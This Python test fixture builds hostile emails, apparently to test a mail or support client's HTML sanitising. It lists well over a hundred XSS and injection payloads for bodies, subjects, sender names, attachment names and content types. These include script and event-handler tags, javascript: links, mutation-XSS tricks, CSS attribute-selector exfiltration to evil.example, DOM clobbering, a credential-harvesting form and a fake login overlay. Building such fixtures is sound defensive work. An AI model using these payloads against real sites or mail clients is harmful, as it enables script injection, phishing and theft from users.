"""Mails that want to act in the browser of whoever reads them, written for these tests: one trick a line.

``HTML`` are bodies; ``TEXT`` stand in plain text, subjects, names, file names and types. ``mails()`` puts each where it
belongs and gives whole mails. Whatever acts calls ``alert`` or asks ``evil.example``.
"""

from __future__ import annotations

import base64

E = "https://evil.example"
A = "alert(document.domain)"
B64 = base64.b64encode(f"<script>{A}</script>".encode()).decode()

HTML = (
    # scripts
    f"<script>{A}</script>",
    f"<SCRIPT>{A}</SCRIPT>",
    f"<script src={E}/x.js></script>",
    f"<script/src='{E}/x.js'></script>",
    f"<script type=module>import '{E}/m.js'</script>",
    f"<script\x0b>{A}</script\x0b>",
    f"<<script>{A}//<</script>",
    f"<scr<script>ipt>{A}</scr</script>ipt>",
    f"<script>{A}",
    f"</script><script>{A}</script>",
    f"<script><!--\n{A}\n--></script>",
    f"<script>/*<b>*/{A}/*</b>*/</script>",
    f"<noscript><p title='</noscript><img src=x onerror={A}>'></noscript>",
    f"<template><script>{A}</script></template>",
    f"<xml><script>{A}</script></xml>",
    f"<div><script>{A}</script></div>",
    # events
    f"<img src=x onerror={A}>",
    f"<img src=x onerror='{A}' style=display:none>",
    f'<img src="x" onerror="{A}" alt="logo">',
    f"<img/src/onerror={A}>",
    f"<img src=`x` onerror={A}>",
    f'<img """><script>{A}</script>">',
    f"<img src=x:x onerror\n=\n{A}>",
    f"<img src=x o\x00nerror={A}>",
    f"<image src=x onerror={A}>",
    f"<body onload={A}>",
    f"<body onpageshow={A}>",
    f"<body onhashchange={A}><a href=#x>x</a>",
    f"<input autofocus onfocus={A}>",
    f"<select autofocus onfocus={A}></select>",
    f"<textarea autofocus onfocus={A}></textarea>",
    f"<button autofocus onfocus={A}>x</button>",
    f"<details open ontoggle={A}><summary>x</summary></details>",
    f"<video src=x onerror={A}></video>",
    f"<video><source onerror={A}></video>",
    f"<audio src=x onerror={A}></audio>",
    f"<marquee onstart={A}>x</marquee>",
    f"<div tabindex=1 autofocus onfocus={A}>x</div>",
    f"<p style='animation:x' onanimationstart={A}>x</p><style>@keyframes x{{}}</style>",
    f"<a onmouseover={A}>x</a>",
    f"<xss onpointerrawupdate={A} style=display:block>x</xss>",
    f"<dialog open onclose={A}>x</dialog>",
    f"<b oncut={A} contenteditable>x</b>",
    f"<p onclick={A} accesskey=x>x</p>",
    f"<iframe onload={A}></iframe>",
    f"<object data=x onerror={A}></object>",
    f"<svg><animate onbegin={A} attributeName=x dur=1s></svg>",
    # frames, objects, other documents
    f"<iframe src={E}></iframe>",
    f"<iframe srcdoc='<script>parent.{A}</script>'></iframe>",
    f"<iframe src='javascript:{A}'></iframe>",
    f"<iframe src='data:text/html;base64,{B64}'></iframe>",
    f"<frameset><frame src='javascript:{A}'></frameset>",
    f"<object data={E}/x.swf></object>",
    f"<object data='data:text/html;base64,{B64}'></object>",
    f"<embed src={E}/x.swf>",
    f"<embed src='javascript:{A}'>",
    f"<applet code=X archive={E}/x.jar></applet>",
    f"<portal src={E}></portal>",
    f"<meta http-equiv=refresh content='0;url={E}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{A}'>",
    f"<meta http-equiv=Set-Cookie content='mailbot_session=stolen'><img src={E}/c>",
    f"<meta http-equiv=Content-Security-Policy content='default-src *'><script src={E}/x.js></script>",
    f"<base href={E}/><img src=pixel.gif>",
    f"<link rel=stylesheet href={E}/x.css>",
    f"<link rel=prefetch href={E}/p>",
    f"<link rel=dns-prefetch href=//evil.example><link rel=preconnect href={E}>",
    f"<link rel=import href={E}/x.html>",
    f"<link rel=icon href={E}/favicon.ico>",
    f"<?xml-stylesheet href='{E}/x.xsl'?>",
    f"<html manifest={E}/cache>",
    # pictures and other things from elsewhere
    f"<img src={E}/pixel.gif width=1 height=1>",
    f"<img srcset='{E}/a 1x, {E}/b 2x'>",
    f"<picture><source srcset={E}/p><img src={E}/q></picture>",
    f"<img lowsrc={E}/l dynsrc={E}/d src={E}/s>",
    "<img src=//evil.example/x>",
    "<img src='\\\\evil.example\\x'>",
    f"<table background={E}/t><tr><td background={E}/u>x</td></tr></table>",
    f"<body background={E}/b>",
    f"<input type=image src={E}/i>",
    f"<video poster={E}/p src={E}/v autoplay></video>",
    f"<audio src={E}/a autoplay></audio>",
    f"<video><track default src={E}/t.vtt></video>",
    f"<bgsound src={E}/s>",
    f"<a ping={E}/ping href=#>x</a>",
    # styles
    f"<style>@import '{E}/x.css';</style>",
    f"<style>body{{background:url({E}/b)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({E}/f)}}body{{font-family:x}}</style>",
    f"<div style='background:url({E}/d)'>x</div>",
    f"<div style='background-image:image-set(\"{E}/i\" 1x)'>x</div>",
    f"<div style=\"background:\\75rl('{E}/e')\">x</div>",
    f"<div style='list-style:url({E}/l)'><li>x</li></div>",
    f"<div style='cursor:url({E}/c),auto'>x</div>",
    f"<div style=\"content:url('{E}/n')\">x</div>",
    f"<div style='width:expression({A})'>x</div>",
    f"<div style='-moz-binding:url({E}/x.xml#x)'>x</div>",
    f"<div style='behavior:url({E}/x.htc)'>x</div>",
    "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>Your session has ended. Log in again.</div>",
    "<style>*{display:none!important}</style>gone",
    f"<style><!--</style><script>{A}</script>--></style>",
    f"<style>input[value^=a]{{background:url({E}/a)}}</style><input value=abc>",
    # SVG, MathML and what a second reading would make of it
    f"<svg onload={A}>",
    f"<svg><script>{A}</script></svg>",
    f"<svg><script href={E}/x.js /></svg>",
    f"<svg><a xlink:href='javascript:{A}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml;base64,{B64}#x'/></svg>",
    f"<svg><image href={E}/i /></svg>",
    f"<svg><foreignObject><iframe srcdoc='<script>{A}</script>'></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={A}></svg>",
    f"<svg><style>@import '{E}/s.css'</style></svg>",
    f"<svg></p><style><a id='</style><img src=1 onerror={A}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={A}></style></mglyph></table></mtext></math>",
    f"<math><annotation-xml encoding='text/html'><script>{A}</script></annotation-xml></math>",
    f"<math href='javascript:{A}'>x</math>",
    f"<math><mi xlink:href='javascript:{A}'>x</mi></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={A}>",
    f"<table><caption><svg><title><table><caption></title><style><img src=x onerror={A}>",
    f"<select><iframe></select><img src=x onerror={A}></iframe>",
    f"<noembed><img title='</noembed><img src=x onerror={A}>'></noembed>",
    f"<xmp><img title='</xmp><img src=x onerror={A}>'></xmp>",
    f"<textarea><img title='</textarea><img src=x onerror={A}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={A}>'></title>",
    f"<!--><img src=x onerror={A}>-->",
    f"<!--!><img src=x onerror={A}>-->",
    f"<![CDATA[<img src=x onerror={A}>]]>",
    f"<a title='--><img src=x onerror={A}>'>x</a>",
    f"<p title='\"><img src=x onerror={A}>'>x</p>",
    f"<listing>&lt;img src=x onerror={A}&gt;</listing>",
    f"&lt;img src=x onerror={A}&gt;",
    f"&#x3C;script&#x3E;{A}&#x3C;/script&#x3E;",
    f"<plaintext><img src=x onerror={A}>",
    # links and forms
    f"<a href='javascript:{A}'>click</a>",
    f"<a href='JaVaScRiPt:{A}'>click</a>",
    f"<a href='java\tscript:{A}'>click</a>",
    f"<a href='&#106;avascript:{A}'>click</a>",
    f"<a href=' \x01javascript:{A}'>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    f"<a href='data:text/html;base64,{B64}'>click</a>",
    f"<a href='{E}' target=_top>click</a>",
    f"<a href='{E}/<script>{A}</script>'>click</a>",
    "<a href='https://bank.example@evil.example/'>https://bank.example/</a>",
    f"<form action={E} method=post><input name=password><button>Log in</button></form>",
    f"<form action='javascript:{A}'><input type=submit></form>",
    f"<form id=judge action={E}></form><button form=judge formaction={E}>x</button>",
    f"<isindex action=javascript:{A} type=submit>",
    f"<map name=m><area href='javascript:{A}' shape=default></map><img usemap=#m src=x>",
    # taking over the page's own names
    "<form id=main><input name=children><input name=innerHTML></form>",
    "<img name=getElementById><img id=toast><img id=draft>",
    "<a id=mailbot href=clobber:><a id=mailbot name=toast href=x>",
    "<div id=decision-title data-key=Enter data-focus-first>x</div>",
    "<button data-key=a data-open=transfer>x</button>",
    "</div></article></main></body></html><h1>outside</h1>",
    "</iframe></details><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}<script>alert(1)</script>{% endraw %}${7*7}",
)

TEXT = (
    f"<script>{A}</script>",
    f'"><img src=x onerror={A}>',
    f"'><svg onload={A}>",
    f"' autofocus onfocus={A} x='",
    f"</title><script>{A}</script>",
    f"</textarea><script>{A}</script>",
    f"--><script>{A}</script>",
    f"javascript:{A}",
    f"&lt;script&gt;{A}&lt;/script&gt;",
    "{{ config }}{{ 7*7 }}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\u202egnp.exe",
    "\u2066\u2067\u2068\u2069 hidden \u200b\u200c\u200d\ufeff",
    "line one\u2028<b>line two</b>\u2029",
    "a" * 900,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 40,
    "Z\u0351\u036b\u0343\u036a\u0302" * 60,
    "=?utf-8?q?=3Cscript=3Ealert(1)=3C/script=3E?=",
    "=?utf-8?b?PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KDEpPg==?=",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""Texts for fields that are no HTML at all."""

TYPES = (
    "text/html; charset=utf-7",
    "text/html; charset=utf-16",
    "text/html; charset=<script>",
    "text/html; name=<img/src=x/onerror=alert(1)>",
    "application/xhtml+xml",
    "image/svg+xml",
    "text/xml",
    "text/x-component",
    "multipart/x-mixed-replace; boundary=b",
    "message/external-body; access-type=URL; URL=https://evil.example",
    "text/plain; charset=utf-7",
    "text/vnd.wap.wml",
    "application/pdf",
    "text/<script>alert(1)</script>",
    "*/*",
)


ROOT = "<root@client.example>"
"""Message-ID of the first of ``mails``; all others answer it, so that they are one conversation."""


def mails() -> list[bytes]:
    """Return every hostile mail."""
    found = [_mail(text, kind="text/html; charset=utf-8") for text in HTML]
    for text in TEXT:
        found.append(_mail(text))
        found.append(_mail("Bonjour", subject=text))
        found.append(_mail("Bonjour", name=text))
        found.append(_attached(text))
    found += [_mail(f"<svg xmlns='http://www.w3.org/2000/svg' onload='{A}'/>", kind=kind) for kind in TYPES]
    return found


def _mail(body: str, *, kind: str = "text/plain; charset=utf-8", subject: str = "Question", name: str = "Eve") -> bytes:
    quoted = " ".join(name.splitlines()).replace("\\", "\\\\").replace('"', '\\"')
    head = (
        f'From: "{quoted}" <eve@client.example>\r\nTo: support@acme.example\r\n'
        f"Subject: {' '.join(subject.splitlines())}\r\nContent-Type: {kind}\r\nReferences: {ROOT}\r\n"
        "MIME-Version: 1.0\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    )
    return head.encode() + body.encode() + b"\r\n"


def _attached(name: str) -> bytes:
    plain = " ".join(name.splitlines()).replace('"', "'")
    body = (
        "--b\r\nContent-Type: text/plain\r\n\r\nVoir le fichier.\r\n--b\r\nContent-Type: text/html\r\n"
        f'Content-Disposition: attachment; filename="{plain}.html"\r\n\r\n<script>{A}</script>\r\n--b--'
    )
    return _mail(body, kind="multipart/mixed; boundary=b")
